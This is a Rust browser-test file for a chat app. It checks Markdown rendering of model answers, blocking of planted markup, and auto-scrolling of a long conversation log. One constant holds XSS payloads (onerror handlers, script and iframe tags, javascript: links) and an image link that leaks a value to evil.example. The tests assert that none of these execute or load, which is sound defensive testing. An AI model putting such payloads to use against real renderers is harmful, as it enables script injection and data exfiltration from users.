//! The texts of a conversation: Markdown, and the end of a long one.

use holdpoint_testkit::{Browser, Embedded};
use serde_json::json;

const MARKDOWN: &str = r#"# A heading

**Mail** is *handled*, see [the list](https://example.com/list).

| name | state |
|---|---|
| one | done |

- first
- second

```sh
ls -l
```"#;

const ATTACKS: &str = r#"<img src=x onerror="window.attacked = 1"><script>window.attacked = 1</script>

<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>

[a](javascript:window.attacked=1) [b](data:text/html,hello) <javascript:window.attacked=1>

![a picture](https://evil.example/?secret=1) ![](javascript:window.attacked=1)"#;

#[tokio::test]
async fn the_text_of_a_model_is_markdown() {
    let app = Embedded::start().await;
    app.scene.answers(MARKDOWN);
    let browser = Browser::start(&app.client.base, "markdown").await;
    let tab = browser.tab("tab").await;
    tab.sends("**hi**").await;
    let lines = [
        "**hi**",
        "A heading",
        "Mail is handled, see the list.",
        "name\tstate",
        "one\tdone",
        "first",
        "second",
        "ls -l",
    ];
    tab.shows(&lines).await;
    let elements = "['h2', 'strong', 'em', 'table', 'li', 'pre code'].map(it => document.querySelectorAll(`.markdown ${it}`).length)";
    tab.becomes(elements, json!([1, 1, 1, 1, 2, 1])).await;
    let link = "(({ href, target, rel }) => [href, target, rel])(document.querySelector('.markdown a'))";
    tab.becomes(link, json!(["https://example.com/list", "_blank", "noreferrer"])).await;
    browser.close().await;
}

#[tokio::test]
async fn the_text_of_a_model_is_never_markup_and_loads_nothing() {
    let app = Embedded::start().await;
    app.scene.answers(ATTACKS);
    let browser = Browser::start(&app.client.base, "planted_markup").await;
    let tab = browser.tab("tab").await;
    tab.sends(ATTACKS).await;
    let shown = r#"<img src=x onerror="window.attacked = 1"><script>window.attacked = 1</script>"#;
    tab.becomes("shown().busy || document.querySelector('.markdown')?.innerText.split('\\n')[0]", shown)
        .await;
    let elements =
        "document.querySelectorAll('article :is(img, script, iframe, object, embed, form, style)').length";
    tab.becomes(elements, 0).await;
    let links = "[...document.querySelectorAll('.markdown a')].map(({ href, innerText, rel }) => [href, innerText, rel])";
    tab.becomes(links, json!([["https://evil.example/?secret=1", "a picture", "noreferrer"]])).await;
    tab.reloads().await;
    tab.becomes(links, json!([["https://evil.example/?secret=1", "a picture", "noreferrer"]])).await;
    assert_eq!(tab.value_of("window.attacked ?? null").await, json!(null));
    assert_eq!(tab.value_of("performance.getEntriesByType('resource').filter(({ name }) => !name.startsWith(location.origin)).length").await, 0);
    browser.close().await;
}

#[tokio::test]
async fn the_log_follows_its_end_unless_the_reader_has_scrolled_up() {
    let app = Embedded::start().await;
    let long = |word: &str| vec![word; 60].join("\n\n");
    app.scene.answers(&long("first"));
    let browser = Browser::start(&app.client.base, "scrolls").await;
    let tab = browser.tab("tab").await;
    tab.sends("hi").await;
    let left = "(log => Math.round(log.scrollHeight - log.scrollTop - log.clientHeight))(document.querySelector('.log'))";
    tab.becomes("document.querySelectorAll('.markdown p').length", 60).await;
    tab.becomes(&format!("{left} < 40"), true).await;
    let composer = "(box => box.bottom <= innerHeight && box.top > innerHeight / 2)(document.querySelector('textarea').getBoundingClientRect())";
    assert_eq!(tab.value_of(composer).await, true);
    assert_eq!(tab.value_of("document.documentElement.scrollHeight <= innerHeight").await, true);

    let gate = app.scene.gate();
    app.scene.answers(&long("second"));
    tab.sends("more").await;
    tab.becomes(&format!("{left} < 40"), true).await;
    tab.value_of("document.querySelector('.log').scrollTo(0, 100)").await;
    tab.becomes("[...document.querySelectorAll('.to-end')].length", 1).await;
    gate.add_permits(100);
    tab.becomes("document.querySelectorAll('.markdown p').length", 120).await;
    assert_eq!(tab.value_of("document.querySelector('.log').scrollTop").await, 100);
    tab.clicks("To the end").await;
    tab.becomes(&format!("{left} < 40"), true).await;
    tab.becomes("[...document.querySelectorAll('.to-end')].length", 0).await;
    browser.close().await;
}
